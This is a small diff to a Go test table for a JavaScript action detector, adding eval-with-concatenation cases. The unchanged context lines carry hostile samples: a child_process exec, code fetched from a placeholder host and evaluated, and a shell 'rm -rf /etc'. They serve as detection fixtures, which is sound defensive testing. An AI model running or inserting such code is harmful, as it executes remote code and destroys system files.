@@ -68,6 +68,7 @@ func TestJavaScript_ActsAreFound(t *testing.T) {
 		{`setTimeout("require('child_process').exec('x')", 1)`, "shell x"},
 		{`eval(process.argv[9])`, "eval ?"},
 		{`eval(x)`, "eval ?"},
+		{`eval("(" + json + ")")`, "eval ?"}, {`eval("a[" + n + "]")`, "eval ?"},
 		{`fetch('http://h').then(r => r.text()).then(eval)`, "fetch code"},
 		{`eval(await (await fetch('http://h')).text())`, "fetch code"},
 		{"await Bun.$`rm -rf /etc`", "shell rm -rf /etc"},
